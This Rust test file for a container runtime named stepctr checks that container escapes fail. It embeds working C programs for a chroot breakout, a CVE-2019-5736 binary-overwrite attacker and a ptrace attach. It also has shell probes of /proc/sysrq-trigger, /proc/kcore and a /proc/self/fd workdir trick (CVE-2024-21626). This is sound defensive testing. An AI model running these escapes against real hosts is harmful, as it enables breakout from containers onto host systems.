//! Issue 5, acceptance 1: escapes that must fail, each tried for real from inside a container.
//!
//! - a chroot breakout (nested chroot + `chdir ..`), which does escape a plain chroot;
//! - /proc/sysrq-trigger and /proc/sys refuse writes; /proc/kcore, /proc/keys, /proc/timer_list
//!   and /sys/firmware show nothing;
//! - no fd of stepctr or of whoever started it is open inside (/proc/self/fd), for PID 1 and
//!   for `exec`;
//! - `-w /proc/self/fd/N` with N a directory of the host is refused (CVE-2024-21626);
//! - a process inside that keeps opening /proc/PID/exe of every process it sees, while
//!   `stepctr exec` joins the container again and again, neither opens nor overwrites
//!   stepctr's binary (CVE-2019-5736);
//! - an image whose /dev or /proc is a symlink to a host path is refused, and nothing is
//!   mounted there.
//!
//! The tools (tiny static C programs) are compiled with the host's C compiler and put into an
//! image with `tests/common/images.rs`.

mod common;
#[path = "common/images.rs"]
mod images;

use common::{assert_no_leaks, stderr, stdout, unique, Env};
use images::{Compression, Entry, ImageBuilder, Layer, Layout};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

fn main() {
    common::run_tests(
        tests![
            chroot_breakout_fails,
            sysrq_trigger_and_proc_sys_refuse_writes,
            kcore_and_friends_are_masked,
            no_host_fd_is_open_inside,
            workdir_through_proc_self_fd_is_refused,
            cve_2019_5736_binary_cannot_be_overwritten,
            symlinked_proc_and_dev_do_not_mount_onto_the_host,
            the_shim_cannot_be_traced_from_inside,
        ],
        true,
    );
}

/// Nested chroot, then `..` until the real root: the classic way out of a chroot(2) jail (a
/// process that may chroot keeps a working directory outside its new root). Prints whether
/// the host's marker file is visible afterwards.
const BREAKOUT_C: &str = r#"
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (chdir("/") != 0) return 3;
    mkdir("x", 0755);
    if (chroot("x") != 0) printf("chroot x: %s\n", strerror(errno));
    else printf("chroot x: ok\n");
    for (int i = 0; i < 256; i++) chdir("..");
    if (chroot(".") != 0) printf("chroot .: %s\n", strerror(errno));
    else printf("chroot .: ok\n");
    if (access(argv[1], F_OK) == 0) printf("ESCAPED: %s is visible\n", argv[1]);
    else printf("contained: %s is not there\n", argv[1]);
    return 0;
}
"#;

/// CVE-2019-5736's attacker. Until SECONDS have passed, open /proc/PID/exe (O_PATH) of every
/// other process it sees; one that is the runtime's binary (same st_dev and st_ino as DEV INO)
/// is reported (`OPENED`), tried for writing at once, and kept: once the runtime has exited,
/// its binary is no longer busy (ETXTBSY), and the real exploit writes it then. Every kept fd
/// is tried again through /proc/self/fd on each round (`WROTE` if that works).
const EXE_ATTACK_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static int try_write(const char *path) {
    int w = open(path, O_WRONLY);
    if (w < 0) return 0;
    int ok = write(w, "PWNED", 5) == 5;
    close(w);
    return ok;
}
int main(int argc, char **argv) {
    if (argc < 4) return 2;
    unsigned long long dev = strtoull(argv[1], 0, 10), ino = strtoull(argv[2], 0, 10);
    time_t end = time(0) + atoi(argv[3]);
    int self = getpid(), held[256], nheld = 0;
    long rounds = 0, looks = 0, seen = 0, last = 0;
    printf("ready\n");
    fflush(stdout);
    while (time(0) < end) {
        rounds++;
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            if (pid > last) { last = pid; seen++; }
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            looks++;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
                printf("OPENED %s\n", p);
                if (try_write(p)) printf("WROTE through %s\n", p);
                fflush(stdout);
                if (nheld < 256) { held[nheld++] = fd; continue; }
            }
            close(fd);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            char q[64];
            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
            if (try_write(q)) { printf("WROTE through a kept fd\n"); fflush(stdout); }
        }
    }
    printf("done: rounds=%ld looks=%ld new-pids=%ld kept=%d\n", rounds, looks, seen, nheld);
    fflush(stdout);
    return 0;
}
"#;

/// ptrace(PTRACE_ATTACH) each pid given; prints what happened to each.
const PTRACE_C: &str = r#"
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        int pid = atoi(argv[i]);
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
            waitpid(pid, 0, 0);
            printf("ATTACHED %d\n", pid);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        } else {
            printf("refused %d: %s\n", pid, strerror(errno));
        }
    }
    return 0;
}
"#;

fn temp_dir(prefix: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(prefix)
        .tempdir()
        .expect("temp dir")
}

/// The tools: built once, in an image (busybox + /bin/breakout + /bin/exe-attack) pulled into
/// the store this test binary shares.
struct Tools {
    image: String,
    breakout: PathBuf,
}

fn tools() -> &'static Tools {
    static TOOLS: OnceLock<Tools> = OnceLock::new();
    TOOLS.get_or_init(|| {
        // Cargo's scratch directory for integration tests (target/tmp): remade on each run,
        // nothing left in /tmp.
        let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join("escape-tools");
        let base = unique("escape-tools");
        let layout = images::image_with_programs(
            &dir,
            &base,
            &[
                ("breakout", BREAKOUT_C),
                ("exe-attack", EXE_ATTACK_C),
                ("ptrace-attach", PTRACE_C),
            ],
        );
        let breakout = dir.join("breakout");
        Env::new().ok(&["-q", "pull", &images::oci_ref(&layout, "v1")]);
        Tools {
            image: format!("localhost/{base}:v1"),
            breakout,
        }
    })
}

/// `stepctr run --rm IMAGE sh -c SCRIPT`, output checked for success.
fn run_sh(env: &Env, image: &str, script: &str) -> String {
    let name = unique("escape");
    let out = env.ok(&["run", "--rm", "--name", &name, image, "sh", "-c", script]);
    assert_no_leaks(env, &name);
    stdout(&out)
}

fn chroot_breakout_fails() {
    let t = tools();
    let env = Env::new();
    let host = temp_dir("stepctr-escape-marker-");
    let marker = host.path().join("host-marker");
    std::fs::write(&marker, "the host").unwrap();
    let marker = marker.to_str().unwrap();
    // The control: in a plain chroot the breakout works (so "contained" below means something).
    let jail = temp_dir("stepctr-escape-jail-");
    std::fs::copy(&t.breakout, jail.path().join("breakout")).unwrap();
    let out = Command::new("chroot")
        .arg(jail.path())
        .args(["/breakout", marker])
        .output()
        .expect("run chroot");
    assert!(
        stdout(&out).contains("ESCAPED"),
        "the breakout should escape a plain chroot: {}{}",
        stdout(&out),
        stderr(&out)
    );
    // In a container: pivot_root and a detached old root leave no `..` that leads out.
    let name = unique("escape-chroot");
    let out = env.ok(&[
        "run",
        "--rm",
        "--name",
        &name,
        &t.image,
        "/bin/breakout",
        marker,
    ]);
    let text = stdout(&out);
    assert!(text.contains("contained"), "{text}");
    assert!(!text.contains("ESCAPED"), "{text}");
    assert_no_leaks(&env, &name);
}

fn sysrq_trigger_and_proc_sys_refuse_writes() {
    let env = Env::new();
    // `h` only prints help to the kernel log, should the write ever get through.
    let text = run_sh(
        &env,
        "localhost/stepctr-busybox",
        "echo h > /proc/sysrq-trigger 2>/dev/null && echo SYSRQ-WRITTEN; \
         echo x > /proc/sys/kernel/domainname 2>/dev/null && echo SYS-WRITTEN; \
         cat /proc/sys/kernel/ostype; grep ' /proc/sys ' /proc/self/mountinfo",
    );
    assert!(!text.contains("SYSRQ-WRITTEN"), "{text}");
    assert!(!text.contains("SYS-WRITTEN"), "{text}");
    // Still readable, and a read-only mount of its own.
    assert!(text.contains("Linux"), "{text}");
    let line = text
        .lines()
        .find(|l| l.contains(" /proc/sys "))
        .unwrap_or_else(|| panic!("no mount on /proc/sys: {text}"));
    assert!(line.split(' ').nth(5).unwrap().starts_with("ro"), "{line}");
}

fn kcore_and_friends_are_masked() {
    let env = Env::new();
    let text = run_sh(
        &env,
        "localhost/stepctr-busybox",
        "for f in /proc/kcore /proc/keys /proc/timer_list; do \
           echo $f $(cat $f 2>/dev/null | wc -c); done; \
         echo firmware $(ls -A /sys/firmware | wc -l); \
         echo kcore-mounted $(grep -c ' /proc/kcore ' /proc/self/mountinfo)",
    );
    let count = |what: &str| -> Option<u64> {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{what} ")))
            .and_then(|n| n.trim().parse().ok())
    };
    for f in ["/proc/kcore", "/proc/keys", "/proc/timer_list"] {
        assert_eq!(count(f), Some(0), "{f} should read as empty: {text}");
    }
    assert_eq!(count("firmware"), Some(0), "{text}");
    // Where the kernel has a /proc/kcore, it is covered (else there is nothing to read).
    if Path::new("/proc/kcore").exists() {
        assert_eq!(count("kcore-mounted"), Some(1), "{text}");
    }
    // The host's own /proc/keys is not empty: the mask is what makes it so inside.
    assert!(!std::fs::read("/proc/keys").unwrap_or_default().is_empty());
}

/// `cmd` with fd 7 open on `dir` and fd 8 on `file` (inherited, as a careless caller or a
/// leaky runtime would leave them), run to the end.
fn with_inherited_fds(mut cmd: Command, dir: &Path, file: &Path) -> Output {
    let d = std::fs::File::open(dir).unwrap();
    let f = std::fs::File::open(file).unwrap();
    let (dfd, ffd) = (
        std::os::fd::AsRawFd::as_raw_fd(&d),
        std::os::fd::AsRawFd::as_raw_fd(&f),
    );
    // SAFETY: dup2 is async-signal-safe; the fds stay open in the parent until `output`.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(dfd, 7) < 0 || libc::dup2(ffd, 8) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.stdin(Stdio::null()).output().expect("run stepctr");
    drop((d, f));
    out
}

/// The fds `ls /proc/self/fd` printed, one per line.
fn fd_list(text: &str) -> Vec<String> {
    text.split_whitespace().map(str::to_string).collect()
}

fn no_host_fd_is_open_inside() {
    let env = Env::new();
    let host = temp_dir("stepctr-escape-fds-");
    let file = host.path().join("secret");
    std::fs::write(&file, "host secret").unwrap();
    // PID 1: only stdin, stdout, stderr, and the directory ls itself opens (3).
    let name = unique("escape-fds");
    let out = with_inherited_fds(
        env.cmd(&[
            "run",
            "--rm",
            "--name",
            &name,
            "localhost/stepctr-busybox",
            "ls",
            "/proc/self/fd",
        ]),
        host.path(),
        &file,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(fd_list(&stdout(&out)), ["0", "1", "2", "3"], "PID 1");
    assert_no_leaks(&env, &name);
    // exec: the same.
    let name = unique("escape-fds");
    env.ok(&[
        "run",
        "-d",
        "--name",
        &name,
        "localhost/stepctr-busybox",
        "sleep",
        "100",
    ]);
    let out = with_inherited_fds(
        env.cmd(&["exec", &name, "ls", "/proc/self/fd"]),
        host.path(),
        &file,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(fd_list(&stdout(&out)), ["0", "1", "2", "3"], "exec");
    env.ok(&["-q", "rm", "-f", &name]);
    assert_no_leaks(&env, &name);
}

fn workdir_through_proc_self_fd_is_refused() {
    let env = Env::new();
    let host = temp_dir("stepctr-escape-cwd-");
    let file = host.path().join("host-only-file");
    std::fs::write(&file, "x").unwrap();
    let refused = |out: &Output, what: &str| {
        assert!(!out.status.success(), "{what}: {}", stdout(out));
        assert!(
            !stdout(out).contains("host-only-file"),
            "{what}: {}",
            stdout(out)
        );
        let err = stderr(out);
        assert!(err.contains("CVE-2024-21626"), "{what}: {err}");
        assert_eq!(err.lines().count(), 1, "{what}: one line: {err}");
    };
    // fd 7 is a directory of the host, held open by whoever started stepctr.
    let name = unique("escape-cwd");
    let out = with_inherited_fds(
        env.cmd(&[
            "run",
            "--rm",
            "-w",
            "/proc/self/fd/7",
            "--name",
            &name,
            "localhost/stepctr-busybox",
            "ls",
        ]),
        host.path(),
        &file,
    );
    refused(&out, "run -w /proc/self/fd/7");
    assert_no_leaks(&env, &name);
    let name = unique("escape-cwd");
    env.ok(&[
        "run",
        "-d",
        "--name",
        &name,
        "localhost/stepctr-busybox",
        "sleep",
        "100",
    ]);
    let out = with_inherited_fds(
        env.cmd(&["exec", "-w", "/proc/self/fd/7", &name, "ls"]),
        host.path(),
        &file,
    );
    refused(&out, "exec -w /proc/self/fd/7");
    // Without a leaked fd, every /proc/self/fd/N fails one way or another.
    for n in 3..12 {
        let w = format!("/proc/self/fd/{n}");
        let out = env.run(&["exec", "-w", &w, &name, "ls"]);
        assert!(!out.status.success(), "exec -w {w}: {}", stdout(&out));
    }
    env.ok(&["-q", "rm", "-f", &name]);
    assert_no_leaks(&env, &name);
}

fn cve_2019_5736_binary_cannot_be_overwritten() {
    use std::os::unix::fs::MetadataExt;
    let t = tools();
    let env = Env::new();
    // The runtime under attack is a copy of stepctr: if the attack ever worked, it would ruin
    // the copy, not the build.
    let dir = temp_dir("stepctr-escape-exe-");
    let copy = dir.path().join("stepctr");
    std::fs::copy(common::stepctr_bin(), &copy).unwrap();
    let before = images::sha256(&std::fs::read(&copy).unwrap());
    let meta = std::fs::metadata(&copy).unwrap();
    let (dev, ino) = (meta.dev().to_string(), meta.ino().to_string());
    let name = unique("escape-exe");
    let seconds = 6;
    env.ok(&[
        "run",
        "-d",
        "--name",
        &name,
        &t.image,
        "/bin/exe-attack",
        &dev,
        &ino,
        &seconds.to_string(),
    ]);
    let started = Instant::now();
    let runtime = |args: &[&str]| {
        Command::new(&copy)
            .args(args)
            .env("STEPCTR_ROOT", &env.root)
            .env("STEPCTR_RUN", &env.run)
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .output()
    };
    // Join the container again and again while the attacker watches /proc.
    let mut joined = 0;
    let mut busy = None;
    while started.elapsed() < Duration::from_secs(seconds - 2) {
        match runtime(&["exec", &name, "sleep", "0.05"]) {
            Ok(out) => assert!(out.status.success(), "exec: {}", stderr(&out)),
            // ETXTBSY: the attacker holds the binary open for writing right now.
            Err(e) => {
                busy = Some(e);
                break;
            }
        }
        joined += 1;
    }
    // The attacker goes on trying its kept fds after the runtime has exited.
    let deadline = Instant::now() + Duration::from_secs(seconds + 20);
    let log = loop {
        let out = env.ok(&["logs", &name]);
        let text = stdout(&out);
        if text.contains("done:") || Instant::now() > deadline {
            break text;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    env.ok(&["-q", "rm", "-f", &name]);
    assert_no_leaks(&env, &name);
    let after = images::sha256(&std::fs::read(&copy).unwrap());
    assert_eq!(before, after, "stepctr's binary was changed: {log}");
    assert!(
        busy.is_none(),
        "the binary could not be run: {busy:?}: {log}"
    );
    assert!(log.contains("done:"), "the attacker did not finish: {log}");
    assert!(!log.contains("WROTE"), "{log}");
    assert!(
        !log.contains("OPENED"),
        "a /proc/PID/exe of stepctr was opened: {log}"
    );
    // It really tried: it saw the processes `exec` made.
    let seen: u64 = log
        .split("new-pids=")
        .nth(1)
        .and_then(|s| s.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(
        joined >= 5 && seen >= 5,
        "joined {joined} times, attacker saw {seen}: {log}"
    );
}

/// An image whose `what` (`dev` or `proc`) is a symlink to `victim`, a directory of the host.
fn symlink_image(what: &str, victim: &Path) -> String {
    let dir = temp_dir("stepctr-escape-layout-");
    let base = unique(&format!("escape-{what}-link"));
    let layout = dir.path().join(&base);
    let img = ImageBuilder::busybox(Compression::Gzip).layer(
        Layer::from_entries(
            &[Entry::symlink(what, &victim.to_string_lossy())],
            Compression::Gzip,
        ),
        "a pseudo-filesystem's mount point aimed at the host",
    );
    Layout::create(&layout).add_image(&img, "v1");
    Env::new().ok(&["-q", "pull", &images::oci_ref(&layout, "v1")]);
    format!("localhost/{base}:v1")
}

/// The mount points in the container's mount namespace (nsenter), and in ours.
fn mount_points(env: &Env, name: &str) -> Vec<String> {
    let ns = env.container_dir(name).join("ns/mnt");
    let out = Command::new("nsenter")
        .arg(format!("--mount={}", ns.display()))
        .args(["cat", "/proc/self/mountinfo"])
        .output()
        .expect("run nsenter");
    assert!(out.status.success(), "nsenter: {}", stderr(&out));
    let ours = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    (stdout(&out) + &ours)
        .lines()
        .filter_map(|l| l.split(' ').nth(4).map(str::to_string))
        .collect()
}

fn symlinked_proc_and_dev_do_not_mount_onto_the_host() {
    let env = Env::new();
    for what in ["dev", "proc"] {
        let victim = temp_dir(&format!("stepctr-escape-victim-{what}-"));
        std::fs::write(victim.path().join("marker"), "host").unwrap();
        let image = symlink_image(what, victim.path());
        let name = unique("escape-link");
        env.ok(&["-q", "load", &name, &image]);
        env.ok(&["-q", "cgroup", &name]);
        env.ok(&["-q", "ns", &name]);
        // /dev is mounted by the fs stage, /proc by PID 1 at start.
        let out = if what == "dev" {
            env.run(&["-q", "fs", &name])
        } else {
            env.ok(&["-q", "fs", &name]);
            env.run(&["-q", "start", &name, "--", "true"])
        };
        assert!(!out.status.success(), "{what}: {}", stdout(&out));
        let err = stderr(&out);
        assert!(
            err.contains(&format!("/{what} is a symlink")) && err.contains("refused"),
            "{what}: {err}"
        );
        let victim_path = victim.path().to_string_lossy().into_owned();
        let points = mount_points(&env, &name);
        assert!(
            !points.iter().any(|p| p.starts_with(&victim_path)),
            "{what}: something is mounted on the host's {victim_path}: {points:?}"
        );
        let left: Vec<_> = std::fs::read_dir(victim.path())
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(left, ["marker"], "{what}: the host's directory changed");
        env.ok(&["-q", "rm", "-f", &name]);
        assert_no_leaks(&env, &name);
    }
}

/// The shim parents PID 1 from outside the container: a process inside cannot even see it
/// (it is not in the container's PID namespace), let alone trace it. Its host pid, given to
/// ptrace from inside, names no process there (ESRCH); nor does /proc inside show it.
fn the_shim_cannot_be_traced_from_inside() {
    let t = tools();
    let env = Env::new();
    let name = unique("ptrace");
    env.ok(&["-q", "run", "-d", "--name", &name, &t.image, "sleep", "100"]);
    let ps: serde_json::Value = serde_json::from_str(&stdout(&env.ok(&["ps", "--json"]))).unwrap();
    let shim = ps
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == name.as_str())
        .and_then(|c| c["shim"].as_i64())
        .expect("ps --json names the shim");
    let out = stdout(&env.ok(&[
        "exec",
        &name,
        "sh",
        "-c",
        &format!("/bin/ptrace-attach {shim}; ls /proc | grep -x {shim} || echo 'not in /proc'"),
    ]));
    assert!(
        out.contains(&format!("refused {shim}: No such process")),
        "ptrace of the shim (host pid {shim}) from inside: {out}"
    );
    assert!(out.contains("not in /proc"), "{out}");
    assert!(!out.contains("ATTACHED"), "{out}");
    env.ok(&["-q", "rm", "-f", &name]);
    assert_no_leaks(&env, &name);
}
